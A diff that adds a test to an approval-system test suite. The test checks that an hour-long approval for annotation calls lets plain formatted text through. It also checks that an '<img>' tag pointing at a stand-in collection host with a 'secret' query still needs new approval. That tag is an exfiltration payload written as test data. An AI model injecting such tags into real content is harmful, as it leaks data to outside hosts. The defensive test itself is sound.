@@ -93,6 +93,17 @@ describe('a call that was approved for an hour', () => {
     expect(sent()).toBe(0)
   })
 
+  it('lets another text pass, and none that makes the call one of a further class', async () => {
+    const note = (text: string) => ({ action: 'annotate', note: text })
+    const id = await ask(note('Calls back'))
+    upstream.play(answer(201, { id: 1 }))
+    await decide(id, (await show(id)).digest, 'approve', { for: '1h' })
+    await ended(id)
+    upstream.play(answer(201, { id: 2 }))
+    expect((await call(note('Called <b>back</b>'))).status).toBe(201)
+    await expectAsks(note('<img src="https://collect.example/?q=secret">'))
+  })
+
   it('says nothing about other actions, other tokens, and applications that a user let in with the token', async () => {
     const { token } = await mint()
     await stand('1h', token)
